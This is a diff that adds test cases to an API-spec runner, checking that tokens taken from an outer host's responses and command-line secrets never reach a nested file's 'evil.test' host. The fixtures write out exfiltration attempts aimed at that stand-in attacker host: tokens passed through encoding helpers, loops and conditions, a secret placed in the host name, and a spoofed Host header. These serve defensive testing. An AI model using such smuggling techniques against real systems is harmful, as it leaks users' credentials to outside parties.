@@ -187,6 +187,84 @@ describe('what an outer host gave as a secret', () => {
   });
 });
 
+describe('what a variable holds that came from an outer host does not go to a nested one', () => {
+  const files = [OUTER, 'routes: [{ path: /evil, baseUrl: "https://evil.test" }]'];
+  const answer = {
+    plain: 'words',
+    access_token: 'given-token-of-the-host',
+    letter: 'g',
+    list: [{ part: 'p' }, { part: 'q' }],
+  };
+  const first = (extract: string) =>
+    `- id: first\n  method: GET\n  path: /x\n  token: staff\n  extract: ${extract}`;
+  const second = (more: string) =>
+    `- id: second\n  method: GET\n  path: /evil\n  token: none\n${more.replaceAll(/^/gm, '  ')}`;
+
+  const sentBy = async (sections: Parameters<typeof specOf>[0]) => {
+    const environment = environmentOf(...files);
+    if ('problem' in environment) throw new Error(environment.problem);
+    const host = fakeHost(({ path }) => ({ status: path === '/gone' ? 201 : 200, json: answer }));
+    const ran = await runSpec(specOf(sections), host.send, {
+      environment,
+      readSecret: () => (name) => secrets[name],
+    });
+    return { ran, sent: host.requests.map(({ url }) => url) };
+  };
+
+  test.each([
+    ['as it is', '{ a: $.access_token }', 'params: { q: "{{a}}" }'],
+    ['by a helper', '{ a: $.access_token }', "params: { q: \"{{replace a 'g' 'g.'}}\" }"],
+    ['by helpers in helpers', '{ a: $.plain }', 'params: { q: "{{base64 (base64 (base64 a))}}" }'],
+    ['though it is shown', '{ a: { path: $.access_token, redact: false } }', 'headers: { x: "{{a}}" }'],
+    ['though it is short', '{ a: $.letter }', 'body: ["{{a}}"]'],
+    ['in parts', '{ a: $.list }', 'params: { q: "{{a.0.part}}" }'],
+    ['item by item', '{ a: $.list }', 'forEach: { in: "{{a}}", as: each }\nparams: { q: "{{each.part}}" }'],
+    ['by a condition', '{ a: $.letter }', "when: \"'{{a}}' == 'g'\""],
+  ])('%s', async (_, extract, step) => {
+    const { ran, sent } = await sentBy({ prerequisites: first(extract), test: second(step) });
+    expect(sent).toEqual(['https://good.test/x']);
+    const message = ran.step('second')?.checks[0]?.message ?? ran.steps.at(-1)?.checks[0]?.message;
+    expect(message).toBe(
+      '"a", which came from https://good.test may not go to https://evil.test, which specs/pr/environments.yaml names and specs/environments.yaml does not',
+    );
+  });
+
+  test('collected over several turns', async () => {
+    const turns = first('{ a: $.letter }\n  forEach: { in: [1, 2], as: each }');
+    const { sent } = await sentBy({ prerequisites: turns, test: second('body: ["{{a}}"]') });
+    expect(sent).toEqual(['https://good.test/x', 'https://good.test/x']);
+  });
+
+  test('kept for the cleanup from an answer that was not as promised', async () => {
+    const broken = first('{ a: $.letter }\n  expect: { status: 201 }');
+    const { sent } = await sentBy({ test: broken, cleanup: second('params: { q: "{{a}}" }') });
+    expect(sent).toEqual(['https://good.test/x']);
+  });
+});
+
+describe('a secret of the command line', () => {
+  const given = { vars: { mine: 'mine-of-the-caller' }, secretVars: new Set(['mine']) };
+  const nested = 'defaultToken: none\nbaseUrl: https://evil.test';
+
+  test.each([
+    ['to a host that only a nested file names', [OUTER, nested], 'params: { q: "{{mine}}" }'],
+    ['by a helper', [OUTER, nested], 'params: { q: "{{uppercase mine}}" }'],
+    ['by a variable', [OUTER, `${nested}\nvariables: { made: "a{{mine}}" }`], 'body: ["{{made}}"]'],
+    ['written out', [OUTER, nested], 'body: ["mine-of-the-caller"]'],
+    ['in the host itself', [OUTER, `${nested}/{{mine}}`], ''],
+    ['by a Host header', [OUTER], 'token: none\nheaders: { host: evil.test, a: "{{mine}}" }'],
+  ])('does not go %s', async (_, files, step) => {
+    const { sent, check } = await run(files, step, given);
+    expect(sent).toEqual([]);
+    expect(check?.message).toContain('{{mine}} of --secret may not go to https://evil.test, which');
+  });
+
+  test('goes to the hosts of the outermost file', async () => {
+    const { sent } = await run([OUTER, 'headers: { x: "{{mine}}" }'], 'body: ["{{mine}}"]', given);
+    expect(sent).toEqual(['https://good.test/x']);
+  });
+});
+
 describe('an exchange', () => {
   const exchange = (url: string) =>
     `baseUrl: https://good.test\ntokens:\n  staff: { exchange: { url: "${url}", headers: { x-key: "{{env.KEY}}" } } }`;
